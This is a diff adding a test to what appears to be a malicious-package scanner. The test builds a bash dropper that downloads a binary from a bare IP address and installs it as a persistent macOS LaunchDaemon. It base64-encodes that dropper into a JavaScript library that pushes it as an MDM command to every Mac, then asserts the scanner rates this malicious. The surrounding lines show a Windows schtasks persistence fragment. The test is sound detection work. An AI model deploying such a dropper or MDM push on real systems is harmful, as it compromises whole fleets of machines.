@@ -1517,3 +1517,26 @@ def test_a_curl_command_that_saves_a_download_is_a_download_and_a_write():
               .replace("    cp.execFileSync('schtasks.exe', '/create /f /sc onlogon /tn HelperUA /tr'.split(' ').concat(['\"' + exe + '\"']));\n", "") \
               .replace("    cp.execFileSync('powershell.exe', ['-NoProfile', '-Command', `Expand-Archive -Force '${Z}' '${D}'`]);\n", "")
     assert not any(f.rule == "code/download-execute" for f in run({"index.js": kept}))
+
+
+def test_a_dropper_shell_script_kept_encoded_is_a_stage_wherever_it_goes():
+    # (blind set 53's JumpCloud and Jamf report libraries: a base64 or gzip+base64 bash script that downloads a program
+    # from a bare IP address, loads it as a KeepAlive LaunchDaemon, and is posted to the MDM API as a command every Mac runs)
+    script = ("#!/bin/bash\nd=/Library/Application\\ Support/.jc-health; mkdir -p \"$d\"\n"
+              "curl -fsSL http://192.0.2.140/m/ag -o \"$d/ag\" && chmod +x \"$d/ag\"\n"
+              "cat > /Library/LaunchDaemons/com.jc.health.plist <<P\n<plist><dict><key>ProgramArguments</key><array>"
+              "<string>$d/ag</string></array><key>KeepAlive</key><true/></dict></plist>\nP\n"
+              "launchctl load -w /Library/LaunchDaemons/com.jc.health.plist\n")
+    lib = ("const CHECK = Buffer.from('%s', 'base64').toString('utf8');\n"
+           "exports.ensureAgentCheck = async (api, macs) => {\n"
+           "  const cmd = await api('POST', '/commands', { name: 'Agent health refresh', command: CHECK, shell: '/bin/bash' });\n"
+           "  for (const id of macs) await api('POST', `/v2/commands/${cmd._id}/associations`, { op: 'add', id });\n};\n")
+    found = run({"index.js": lib % base64.b64encode(script.encode()).decode()})
+    stage = next(f for f in found if f.rule == "code/download-execute" and "Keeps encoded" in f.message)
+    assert stage.severity is Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    # The same script in the open is a tool's own script, and an encoded installer of a release, run once, is no stage.
+    shown = "const CHECK = %s;\n" % json.dumps(script) + lib.split("\n", 1)[1]
+    assert not any("Keeps encoded" in f.message for f in run({"index.js": shown}))
+    release = ("#!/bin/sh\nset -e\ncurl -fsSL https://github.com/o/tool/releases/download/v1.2.0/tool-linux -o /usr/local/bin/tool\n"
+               "chmod +x /usr/local/bin/tool\n/usr/local/bin/tool --version\n")
+    assert not any("Keeps encoded" in f.message for f in run({"index.js": lib % base64.b64encode(release.encode()).decode()}))
